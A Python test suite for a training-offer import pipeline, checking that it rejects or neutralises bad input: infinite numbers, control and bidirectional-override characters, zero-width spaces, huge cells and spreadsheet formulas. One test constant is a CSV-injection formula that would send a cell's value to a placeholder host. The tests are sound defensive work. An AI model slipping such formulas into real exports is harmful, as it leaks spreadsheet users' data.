"""Values that should not pass, and text a spreadsheet must not run (issue 9, points 2, 11-13)."""

import csv
import json

import openpyxl
import pytest
from lxml import etree

from factory import TODAY, finding, invoke, valid_offer, write_flat_csv, write_workbook

from pipeline.engine.run import run


def offer_with(entity: str, field: str, value: str):
    offer = valid_offer()
    offer[entity][0][field] = value
    return offer


def flat_csv_with(tmp_path, entity: str, field: str, value: str):
    """A flat CSV carrying `value` as written (a workbook cannot hold every character),
    and the directory workbook beside it: the arguments of `fasd import`."""
    offer = offer_with(entity, field, value)
    annuaire = write_workbook(tmp_path / "annuaire.xlsx", offer, entities=("site", "contact"))
    return [write_flat_csv(tmp_path / "offre.csv", offer), "--annuaire", annuaire]


@pytest.mark.parametrize("value", ["1e400", "inf", "1_2", "١٢", "１２"])
def test_numbers_are_finite_ascii_decimals(tmp_path, value):
    book = write_workbook(tmp_path / "offre.xlsx", offer_with("dispositif", "nb_places", value))
    result = run([book], today=TODAY)
    bad = finding(result, "BAD_FORMAT")
    assert bad["field"] == "nb_places" and bad["value"] == value
    assert result.summary()["entities"]["dispositif"]["accepted"] == 0


def test_an_infinite_price_never_reaches_the_outputs(tmp_path):
    offer = offer_with("dispositif", "frais_ht", "1e400")
    offer["dispositif"].append({**offer["dispositif"][0], "ref_dispositif": "D2", "frais_ht": "1000"})
    book = write_workbook(tmp_path / "offre.xlsx", offer)
    out = tmp_path / "out"
    # frais_ht is optional: the bad value is left out with a warning (issue 10), the record kept
    assert invoke("import", book, "--out", out, "--today", TODAY.isoformat()).exit_code == 0
    records = [
        json.loads(line, parse_constant=lambda c: pytest.fail(f"{c} in records.jsonl"))
        for line in (out / "records.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    dispositifs = records[0]["actions"][0]["sessions"][0]["dispositifs"]
    assert [d.get("frais_ht") for d in dispositifs] == [None, 1000.0]
    assert "inf<" not in (out / "lheo.xml").read_text(encoding="utf-8").lower()


CONTROLS = "Prévention\x00 des\x1b[31m TMS\x07 \u202eenilno\u202c"


def test_control_characters_are_removed_with_a_warning_and_agree_across_outputs(tmp_path):
    args = flat_csv_with(tmp_path, "formation", "objectif_formation", CONTROLS)
    out = tmp_path / "out"
    result = invoke("import", *args, "--out", out, "--today", TODAY.isoformat())
    assert result.exit_code == 0, result.output
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    warning = next(f for f in report["findings"] if f["code"] == "CONTROL_CHAR")
    assert warning["severity"] == "warning" and "RIGHT-TO-LEFT OVERRIDE" in warning["message"]
    record = json.loads((out / "records.jsonl").read_text(encoding="utf-8").splitlines()[0])
    expected = "Prévention des[31m TMS enilno"
    assert record["objectif_formation"] == expected
    tree = etree.parse(str(out / "lheo.xml"))
    texts = [t.strip() for t in tree.xpath("//*[local-name()='objectif-formation']/text()")]
    assert expected in texts


def test_a_huge_cell_is_cut_in_the_reports_and_whole_in_the_records(tmp_path):
    huge = "x" * 200_000
    args = flat_csv_with(tmp_path, "formation", "intitule", huge)
    out = tmp_path / "out"
    invoke("check", *args, "--out", out, "--today", TODAY.isoformat())
    assert (out / "report.csv").stat().st_size < 20_000
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    too_long = next(f for f in report["findings"] if f["code"] == "TOO_LONG")
    assert too_long["value"].endswith("[200000 caractères]") and len(too_long["value"]) < 600


FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez")'


def test_formula_like_text_is_inert_in_report_csv(tmp_path):
    args = flat_csv_with(tmp_path, "session", "date_fin", FORMULA)
    out = tmp_path / "out"
    invoke("import", *args, "--out", out, "--today", TODAY.isoformat())
    with open(out / "report.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    cells = [v for row in rows for v in row.values() if v]
    assert "'" + FORMULA in cells
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert FORMULA in [f["value"] for f in report["findings"]]  # exact where no spreadsheet opens it


def test_formula_like_text_is_a_text_cell_in_export_xlsx_and_exact_in_records(tmp_path):
    title = "=1+2 ou @SOMME(A1:A9)"
    args = flat_csv_with(tmp_path, "formation", "objectif_formation", title)
    out = tmp_path / "out"
    assert invoke("import", *args, "--out", out, "--today", TODAY.isoformat()).exit_code == 0
    record = json.loads((out / "records.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert record["objectif_formation"] == title
    export = tmp_path / "export.xlsx"
    assert invoke("export", out / "records.jsonl", "--out", export).exit_code == 0
    ws = openpyxl.load_workbook(export)["Formations"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == title]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_control_and_format_character_is_removed():
    import sys
    import unicodedata

    from pipeline.readers.sanitise import CONTROL

    missed = [
        f"U+{c:04X}"
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")
        and chr(c) not in "\t\n\r"
        and not CONTROL.fullmatch(chr(c))
    ]
    assert missed == []
    assert not CONTROL.search("é\u00a0«»–…€\u2009")  # visible text, no-break and thin spaces stay


def test_a_zero_width_space_in_a_ref_never_reaches_the_outputs(tmp_path):
    offer = offer_with("formation", "ref_formation", "F\u200b1")
    offer["action"][0]["ref_formation"] = "F\u200b1"
    annuaire = write_workbook(tmp_path / "annuaire.xlsx", offer, entities=("site", "contact"))
    args = [write_flat_csv(tmp_path / "offre.csv", offer), "--annuaire", annuaire]
    out = tmp_path / "out"
    result = invoke("import", *args, "--out", out, "--today", TODAY.isoformat())
    assert result.exit_code == 0, result.output
    for name in ("records.jsonl", "lheo.xml", "report.csv", "report.json"):
        assert "\u200b" not in (out / name).read_text(encoding="utf-8-sig"), name
    record = json.loads((out / "records.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert record["ref_formation"] == "F1"
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    warning = next(f for f in report["findings"] if f["code"] == "CONTROL_CHAR")
    assert "ZERO WIDTH SPACE" in warning["message"]


def test_the_report_shows_invisible_characters_it_quotes_as_their_code(tmp_path):
    """A cell beyond the header's last column is quoted by EXTRA_CELLS as read: report.csv,
    report.json and report.xlsx write its NUL and zero-width space as \\u0000 and \\u200b."""
    offer = valid_offer()
    annuaire = write_workbook(tmp_path / "annuaire.xlsx", offer, entities=("site", "contact"))
    book = write_flat_csv(tmp_path / "offre.csv", offer)
    lines = book.read_text(encoding="utf-8-sig").splitlines()
    lines[1] += ";de\x00trop\u200b"
    book.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    invoke("check", book, "--annuaire", annuaire, "--out", out, "--today", TODAY.isoformat())
    raw = (out / "report.csv").read_text(encoding="utf-8-sig")
    assert "de\\u0000trop\\u200b" in raw
    assert "\x00" not in raw and "\u200b" not in raw
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert "de\\u0000trop\\u200b" in [f["value"] for f in report["findings"]]
    ws = openpyxl.load_workbook(out / "report.xlsx")["Rapport"]
    texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value]
    assert any("de\\u0000trop\\u200b" in t for t in texts)
    assert not any("\u200b" in t for t in texts)


@pytest.mark.parametrize("formula", ["+SUM(1,2)", "@SUM(1)", "=1+2", "-2+3"])
def test_formula_like_cells_are_text_in_every_report_format(tmp_path, formula):
    args = flat_csv_with(tmp_path, "session", "date_fin", formula)
    out = tmp_path / "out"
    invoke("import", *args, "--out", out, "--today", TODAY.isoformat())
    with open(out / "report.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [v for row in csv.DictReader(fh, delimiter=";") for v in row.values() if v]
    assert "'" + formula in cells and formula not in cells
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert formula in [f["value"] for f in report["findings"]]
    wb = openpyxl.load_workbook(out / "report.xlsx")
    found = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == formula]
    assert found and all(c.data_type == "s" for c in found)


def test_formula_like_values_are_text_in_changes_csv(tmp_path):
    base = tmp_path / "catalogue.sqlite"
    assert invoke("base", "init", "--base", base).exit_code == 0
    day = TODAY.isoformat()
    first = write_workbook(tmp_path / "v1.xlsx", valid_offer())
    assert invoke("import", first, "--out", tmp_path / "o1", "--base", base, "--today", day).exit_code == 0
    second = write_workbook(tmp_path / "v2.xlsx", offer_with("formation", "objectif_formation", "+SUM(1,2)"))
    assert invoke("import", second, "--out", tmp_path / "o2", "--base", base, "--today", day).exit_code == 0
    with open(tmp_path / "o2" / "changes.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    (changed,) = [r for r in rows if r["changement"] == "modification"]
    assert changed["champ"] == "objectif_formation" and changed["nouvelle_valeur"] == "'+SUM(1,2)"
